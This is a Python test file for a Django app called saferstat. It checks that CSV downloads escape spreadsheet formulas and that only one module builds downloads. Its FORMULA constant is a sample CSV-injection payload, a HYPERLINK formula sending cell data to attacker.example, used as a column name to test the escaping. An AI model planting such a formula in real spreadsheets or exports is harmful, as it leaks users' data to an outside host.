"""Every file people download goes through `saferstat.core.exports`, so text that a
spreadsheet would run as a formula is written as text (docs/security.md, "Downloads")."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from saferstat.intelligence.datasets.services import partner_dataset_declare, partner_upload_create
from saferstat.intelligence.models import ImportStatus

SAFERSTAT = Path(__file__).resolve().parents[2] / "saferstat"
#: Files that may write CSV without `exports`: none of them answers an HTTP request.
NOT_DOWNLOADS = {
    "core/exports.py",  # the safe export path itself
    "cli.py",  # the command line prints to the analyst's own terminal
    "intelligence/datasets/demo.py",  # writes invented demo input files to disk
    # names the document types it checks uploaded papers against; it serves a paper back
    # byte for byte as an attachment (nosniff), building no table of its own
    "core/documents.py",
}
RAW_CSV = re.compile(r"text/csv|csv\.writer|csv\.DictWriter|spreadsheetml|opendocument")
FORMULA = '=HYPERLINK("http://attacker.example/?"&A2,"Click")'
SCHEMA = {
    "granularity": "month",
    "area_level": "ward",
    "columns": [
        {"name": "Month", "type": "period"},
        {"name": "Ward code", "type": "area"},
        {"name": FORMULA, "type": "category"},
        {"name": "+Cases", "type": "count"},
    ],
}


def test_no_module_writes_a_download_itself():
    """A grep: only `core/exports.py` builds CSV, XLSX or ODS responses."""
    offenders = [
        path.relative_to(SAFERSTAT).as_posix()
        for path in sorted(SAFERSTAT.rglob("*.py"))
        if path.relative_to(SAFERSTAT).as_posix() not in NOT_DOWNLOADS
        and RAW_CSV.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], "build downloads with saferstat.core.exports.export_response"


@pytest.mark.django_db
def test_the_upload_template_writes_formula_column_names_as_text(
    client, overview_warehouse, rotherham, members, django_capture_on_commit_callbacks
):
    """An admin may name a column `=HYPERLINK(...)`; the template an analyst opens in a
    spreadsheet must show it as text, and the filled-in template must still be accepted."""
    dataset = partner_dataset_declare(
        partnership=rotherham, by=members["admin"], name="Tricky", slug="tricky", schema=SCHEMA
    )
    client.force_login(members["analyst"])
    response = client.get("/p/rotherham/datasets/tricky/template.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="tricky-template.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    body = response.content.decode("utf-8-sig")
    header = body.splitlines()[0]
    assert (
        header
        == 'Month,Ward code,"\'=HYPERLINK(""http://attacker.example/?""&A2,""Click"")",\'+Cases'
    )
    assert not re.search(r"(^|,)[=+\-@]", header)

    # The analyst fills the template in and uploads it: the escaped names still match.
    filled = response.content + b"2024-06,E05012993,Knives,3\r\n"
    with django_capture_on_commit_callbacks(execute=True):
        run = partner_upload_create(
            dataset=dataset,
            by=members["analyst"],
            upload=SimpleUploadedFile("tricky-template.csv", filled),
        )
    run.refresh_from_db()
    assert run.status == ImportStatus.SUCCEEDED, run.errors
